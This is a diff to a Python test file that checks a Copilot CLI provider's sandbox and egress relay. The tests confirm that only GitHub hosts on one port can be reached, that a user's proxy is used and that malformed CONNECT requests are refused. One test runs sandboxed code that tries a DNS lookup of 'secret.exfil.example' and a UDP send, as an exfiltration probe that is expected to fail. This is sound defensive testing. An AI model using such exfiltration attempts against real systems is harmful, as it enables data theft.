@@ -16,8 +16,9 @@ import pytest
 from groundwire.credentials.redact import Redactor
 from groundwire.errors import ConfigError
 from groundwire.model import Message, Request, SearchOptions, Text, assemble
-from groundwire.providers.copilot import CopilotProvider
-from groundwire.providers.copilot_egress import Dial, Streams, allows, dial, egress
+from groundwire.providers.copilot.egress import Dial, Streams, allows, dial, egress
+from groundwire.providers.copilot.provider import CopilotProvider
+from groundwire.providers.spec import flatten
 from tests.providers.copilot.fake import fake_cli
 from tests.providers.copilot.test_sandbox import ATTEMPT, REPORT
 from tests.transport.bounded import run
@@ -69,14 +70,14 @@ def canary(family: int, address: Any) -> Iterator[tuple[Any, list[object]]]:
 
 
 def inside(folder: Path, code: str, way: Dial = dial, env: Mapping[str, str] | None = None) -> Any:
-    """Run Python in the place of the CLI; what it put into `found`."""
+    """Run Python instead of the CLI; returns what it put into `found`."""
     cli = fake_cli(folder, ("run", ATTEMPT + TALK + code + REPORT), recorded=False)
     provider = CopilotProvider(cli.settings(env, sandbox=True), Redactor(), dial=way)
 
     async def main() -> str:
         assert "GitHub alone" in await provider.confinement()
         request = Request((Message("user", (Text("q"),)),), search=SearchOptions())
-        async with aclosing(provider.events(request)) as events:
+        async with aclosing(flatten(provider.batches(request))) as events:
             return assemble([event async for event in events]).text
 
     return json.loads(run(main()))
@@ -100,7 +101,7 @@ found = [connect(socket.AF_INET, {near!r}), connect(socket.AF_INET, ({own!r}, {p
         assert [first, second, third] == [[], [], []]
 
 
-def test_names_cannot_be_asked_for_and_nothing_leaves_with_the_question(tmp_path: Path) -> None:
+def test_the_sandbox_has_no_dns_and_no_datagrams(tmp_path: Path) -> None:
     code = """
 found = [attempt(lambda: socket.getaddrinfo("secret.exfil.example", 443)),
          attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"x", ("1.1.1.1", 53)))]
@@ -109,7 +110,7 @@ found = [attempt(lambda: socket.getaddrinfo("secret.exfil.example", 443)),
 
 
 @pytest.mark.parametrize(
-    ("asked", "status"),
+    ("host", "status"),
     [
         ("CONNECT canary.example:443 HTTP/1.1\r\n\r\n", "403 Forbidden"),
         ("CONNECT github.com:22 HTTP/1.1\r\n\r\n", "403 Forbidden"),
@@ -118,11 +119,11 @@ found = [attempt(lambda: socket.getaddrinfo("secret.exfil.example", 443)),
         ("what?\r\n\r\n", "405 Method Not Allowed"),
     ],
 )
-def test_the_relay_leads_nowhere_else(tmp_path: Path, asked: str, status: str) -> None:
+def test_the_relay_leads_nowhere_else(tmp_path: Path, host: str, status: str) -> None:
     async def nowhere(host: str, env: Mapping[str, str]) -> Streams:
         raise AssertionError(host)
 
-    assert inside(tmp_path, f"found = ask({asked!r})", nowhere) == f"HTTP/1.1 {status}"
+    assert inside(tmp_path, f"found = ask({host!r})", nowhere) == f"HTTP/1.1 {status}"
 
 
 def test_a_host_of_githubs_is_reached_and_both_directions_carry_bytes(tmp_path: Path) -> None:
@@ -193,8 +194,8 @@ def test_few_hosts_and_one_port_are_allowed(host: str, port: str, expected: bool
 
 
 @asynccontextmanager
-async def door(folder: Path, way: Dial, env: Mapping[str, str] | None = None) -> AsyncIterator[Streams]:
-    path = str(folder / "door")
+async def connection(folder: Path, way: Dial, env: Mapping[str, str] | None = None) -> AsyncIterator[Streams]:
+    path = str(folder / "egress")
     async with egress(path, env or {}, way):
         streams = await asyncio.open_unix_connection(path)
         yield streams
@@ -214,7 +215,7 @@ def test_a_name_that_leads_home_is_not_dialled(
 
         monkeypatch.setattr(asyncio.get_running_loop(), "getaddrinfo", resolve)
         monkeypatch.setattr(asyncio, "open_connection", never)
-        async with door(tmp_path, dial) as (reader, writer):
+        async with connection(tmp_path, dial) as (reader, writer):
             writer.write(b"CONNECT github.com:443 HTTP/1.1\r\n\r\n")
             return await reader.readline()
 
@@ -225,11 +226,11 @@ def test_a_name_that_leads_home_is_not_dialled(
     ("answer", "status"),
     [(b"HTTP/1.1 200 OK\r\n\r\n", b"200"), (b"HTTP/1.1 407 Login\r\n\r\n", b"502"), (b"", b"502")],
 )
-def test_behind_a_proxy_of_the_users_that_one_is_asked(tmp_path: Path, answer: bytes, status: bytes) -> None:
-    asked: list[bytes] = []
+def test_with_a_user_proxy_connections_go_through_it(tmp_path: Path, answer: bytes, status: bytes) -> None:
+    heads: list[bytes] = []
 
     async def proxy(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        asked.append(await reader.readuntil(b"\r\n\r\n"))
+        heads.append(await reader.readuntil(b"\r\n\r\n"))
         writer.write(answer)
         writer.close()
 
@@ -237,20 +238,20 @@ def test_behind_a_proxy_of_the_users_that_one_is_asked(tmp_path: Path, answer: b
         server = await asyncio.start_server(proxy, "127.0.0.1", 0)
         port = server.sockets[0].getsockname()[1]
         env = {"HTTPS_PROXY": f"http://me:p%40ss@127.0.0.1:{port}"}
-        async with server, door(tmp_path, dial, env) as (reader, writer):
+        async with server, connection(tmp_path, dial, env) as (reader, writer):
             writer.write(b"CONNECT api.github.com:443 HTTP/1.1\r\n\r\n")
             return await reader.readline()
 
     assert run(main()).split()[1] == status
     login = b"Proxy-Authorization: Basic bWU6cEBzcw=="
     head = (b"CONNECT api.github.com:443 HTTP/1.1", b"Host: api.github.com:443", login, b"", b"")
-    assert asked == [b"\r\n".join(head)]
+    assert heads == [b"\r\n".join(head)]
 
 
 @pytest.mark.parametrize("sent", [b"", b"CONNECT", b"x" * 100_000, b"CONNECT github.com:443\r\n\r\n"])
-def test_whoever_cannot_ask_is_sent_away(tmp_path: Path, sent: bytes) -> None:
+def test_a_malformed_connect_request_is_refused(tmp_path: Path, sent: bytes) -> None:
     async def main() -> bytes:
-        async with door(tmp_path, dial) as (reader, writer):
+        async with connection(tmp_path, dial) as (reader, writer):
             writer.write(sent)
             if len(sent) < 100:
                 writer.write_eof()
@@ -261,21 +262,21 @@ def test_whoever_cannot_ask_is_sent_away(tmp_path: Path, sent: bytes) -> None:
 
 def test_leaving_closes_what_is_still_open(tmp_path: Path) -> None:
     async def main() -> None:
-        asked = asyncio.Event()
+        dialled = asyncio.Event()
 
         async def hang(_: str, __: Mapping[str, str]) -> Streams:
-            asked.set()
+            dialled.set()
             await asyncio.sleep(60)
             raise AssertionError("nobody waits so long")
 
-        async with door(tmp_path, hang) as (_, writer):
+        async with connection(tmp_path, hang) as (_, writer):
             writer.write(b"CONNECT github.com:443 HTTP/1.1\r\n\r\n")
-            await asked.wait()
+            await dialled.wait()
 
     run(main())
 
 
-def test_a_folder_whose_path_is_too_long_for_a_socket_is_told(tmp_path: Path) -> None:
+def test_a_folder_whose_path_is_too_long_for_a_socket_is_an_error(tmp_path: Path) -> None:
     async def main() -> None:
         async with egress(str(tmp_path / ("x" * 120)), {}):
             pass
